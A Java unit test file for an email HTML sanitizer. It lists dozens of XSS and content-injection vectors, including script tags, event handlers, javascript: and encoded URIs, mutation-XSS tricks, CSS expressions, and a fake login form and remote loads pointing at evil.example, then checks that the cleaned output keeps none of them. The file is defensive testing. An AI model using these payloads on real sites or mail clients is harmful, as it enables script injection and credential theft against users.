package org.sealpost.mime;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    private static final String PIXEL = "iVBORw0KGgo=";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<body onload=alert(1)>",
                "<div onclick=\"alert(1)\">x</div>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<object data=\"x.swf\"></object><embed src=x>",
                "<form action=\"https://evil.example\"><input name=password><button>Log in</button></form>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<style>@import url(https://evil.example/x.css); body{background:url(//evil.example)}</style>",
                "<style><!--</style><script>alert(1)//--></script>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script></xml>",
                "<template><script>alert(1)</script></template>",
                "<video src=https://evil.example/x poster=https://evil.example/p></video><audio src=x>",
                "<img srcset=\"https://evil.example/x 1x\">",
                "<table background=\"https://evil.example/x\"><tr><td background='//evil.example'>x</table>",
                "<div style=\"background:url('https://evil.example/x')\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<div style=\"-moz-binding:url(//evil.example/x)\">x</div>",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "\0<\0script>alert(1)</script>",
                "<a href=https://ok.example style='x' onmouseover=alert(1)>x</a>"
            })
    void leavesNothingThatRunsOrLoads(String vector) throws IOException {
        for (LinkMode mode : LinkMode.values()) {
            String safe =
                    Letters.read(Letters.html("before " + vector + " after")).html(mode);
            assertThat(safe)
                    .contains("before")
                    .doesNotContainIgnoringCase("<script", "<svg", "<iframe", "<object", "<embed", "<form", "<input")
                    .doesNotContainIgnoringCase("<style", "<link", "<meta", "<base", "<video", "<button", "url(")
                    .doesNotContainIgnoringCase("expression(", "evil.example\"", "srcset", "background=")
                    .doesNotContainPattern("(?i)<[^>]*\\son[a-z]+=")
                    .doesNotContainPattern("(?i)(src|href)=\"?\\s*(javascript|data|vbscript|//)");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "position:fixed;top:0;left:0;width:100%;height:100%",
                "position:absolute",
                "margin:-1000px",
                "z-index:9999",
                "display:none",
                "opacity:0",
                "transform:scale(100)",
                "float:left",
                "top:-100px"
            })
    void leavesNoStyleThatEscapesTheFrame(String style) throws IOException {
        String safe = Letters.read(Letters.html("<div style=\"color:red;" + style + "\">x</div>"))
                .html(LinkMode.SHOWN);
        assertThat(safe).contains("color:red").doesNotContain(style.substring(0, style.indexOf(':') + 1));
    }

    @Test
    void keepsWhatMakesALetterReadable() throws IOException {
        String html = "<h1>Title</h1><p>a <b>b</b> <i>c</i></p><ul><li>one</li></ul>"
                + "<table border=\"1\"><tbody><tr><td align=\"right\">1</td></tr></tbody></table>"
                + "<blockquote>quoted</blockquote><pre>code</pre>";
        String safe = Letters.read(Letters.html(html)).html(LinkMode.SHOWN);
        assertThat(safe)
                .contains("<h1>Title</h1>", "<b>b</b>", "<li>one</li>", "align=\"right\"", "quoted", "<pre>code</pre>");
    }

    @Test
    void showsLinksThatGiveNothingAway() throws IOException {
        String safe = Letters.read(Letters.html("<a href=\"https://ok.example/a?b=c\" target=\"_top\">x</a>"))
                .html(LinkMode.SHOWN);
        assertThat(safe).contains("href=\"https://ok.example/a?b&#61;c\"", "target=\"_blank\"");
        assertThat(safe).contains("noopener").contains("noreferrer").contains("nofollow");
        assertThat(safe).doesNotContain("_top");
    }

    @Test
    void removesEveryLinkOfContentThatNothingVouchesFor() throws IOException {
        String safe = Letters.read(Letters.html("<a href=\"https://ok.example\">words</a> <a href=mailto:a@b>y</a>"))
                .html(LinkMode.REMOVED);
        assertThat(safe).contains("words").doesNotContain("<a", "href", "ok.example");
    }

    @Test
    void showsSmallImagesOfTheMessageItself() throws IOException {
        String safe = Letters.read(related("image/png", PIXEL)).html(LinkMode.SHOWN);
        assertThat(safe).contains("src=\"data:image/png;base64,iVBORw0KGgo").contains("alt=\"logo\"");
    }

    @Test
    void showsNoImageThatCouldHoldAScriptOrIsLargeOrIsElsewhere() throws IOException {
        String large = Base64.getMimeEncoder().encodeToString(new byte[300 * 1024]);
        assertThat(Letters.read(related("image/svg+xml", PIXEL)).html(LinkMode.SHOWN))
                .doesNotContain("data:");
        assertThat(Letters.read(related("image/png", large)).html(LinkMode.SHOWN))
                .doesNotContain("data:");
        assertThat(Letters.read(Letters.html("<img src=\"cid:other\"><img src=\"https://evil.example/x.png\">"
                                + "<img src=\"data:image/png;base64,AAAA\">"))
                        .html(LinkMode.SHOWN))
                .doesNotContain("src=");
    }

    @Test
    void keepsTheImagesAmongTheAttachments() throws IOException {
        assertThat(Letters.attachmentNames(Letters.read(related("image/png", PIXEL))))
                .isEqualTo(List.of("image.png"));
    }

    @Test
    void showsPlainTextAsTextAlone() throws IOException {
        ReadMessage message = Letters.read("Subject: s\n\n<script>alert(1)</script> & \"x\"\nnext");
        assertThat(message.html(LinkMode.SHOWN))
                .isEqualTo("<pre>&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#34;x&#34;\nnext</pre>");
    }

    @Test
    void cleansHostileHtmlInBoundedTime() throws IOException {
        Instant start = Instant.now();
        for (String piece :
                List.of("<div>", "<b>", "<", "<!--", "<a href=x>", "&#", "<table><tr><td>", "<p style='a:b'>")) {
            String html = (piece.repeat(2_000) + "\n").repeat(50);
            assertThat(Letters.read(Letters.html(html)).html(LinkMode.SHOWN)).isNotNull();
            assertThat(Letters.read(Letters.html(html)).text()).isNotNull();
        }
        assertThat(Duration.between(start, Instant.now())).isLessThan(Duration.ofSeconds(40));
    }

    private static String related(String type, String base64) {
        return "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"
                + "<img src=\"cid:logo@x\" alt=\"logo\">\n--b\nContent-Type: " + type
                + "\nContent-ID: <logo@x>\nContent-Transfer-Encoding: base64\n\n" + base64 + "\n--b--\n";
    }
}
